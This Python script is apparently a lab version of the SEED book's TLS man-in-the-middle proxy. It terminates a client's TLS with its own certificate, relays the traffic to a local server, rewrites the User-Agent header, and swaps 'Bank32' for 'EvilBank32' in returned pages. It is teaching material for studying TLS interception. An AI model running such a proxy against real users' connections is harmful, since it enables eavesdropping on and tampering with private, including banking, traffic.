#!/usr/bin/python3
# The SEED book's TLS proxy: a thread per connection; it terminates the
# client's TLS with its own certificate, opens TLS to the real server, and
# rewrites the request on the way (here: the User-Agent) and the page back.
import socket
import ssl
import sys
import threading

port, certfile, keyfile, upstream_port, cafile, server_name = (int(sys.argv[1]), sys.argv[2], sys.argv[3],
                                                              int(sys.argv[4]), sys.argv[5], sys.argv[6])
count = int(sys.argv[7])

server_context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
server_context.load_cert_chain(certfile, keyfile)
client_context = ssl.create_default_context(cafile=cafile)   # one context, shared by every thread


def relay(ssock_for_browser):
    sock_for_server = socket.create_connection(('127.0.0.1', upstream_port), timeout=10)
    ssock_for_server = client_context.wrap_socket(sock_for_server, server_hostname=server_name)
    request = ssock_for_browser.recv(2048)
    request = request.replace(b'User-Agent: curl', b'User-Agent: proxied-curl')
    ssock_for_server.sendall(request)
    response = b''
    while True:
        chunk = ssock_for_server.recv(2048)
        if not chunk:
            break
        response += chunk
    ssock_for_browser.sendall(response.replace(b'Bank32', b'EvilBank32'))
    ssock_for_browser.shutdown(socket.SHUT_RDWR)
    ssock_for_browser.close()
    print('relayed', len(response), 'bytes', flush=True)


sock_listen = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
sock_listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock_listen.bind(('127.0.0.1', port))
sock_listen.listen(5)
print('listening on', port, flush=True)
threads = []
for _ in range(count):
    sock_for_browser, fromaddr = sock_listen.accept()
    sock_for_browser.settimeout(10)
    ssock_for_browser = server_context.wrap_socket(sock_for_browser, server_side=True)
    t = threading.Thread(target=relay, args=(ssock_for_browser,))
    t.start()
    threads.append(t)
for t in threads:
    t.join()
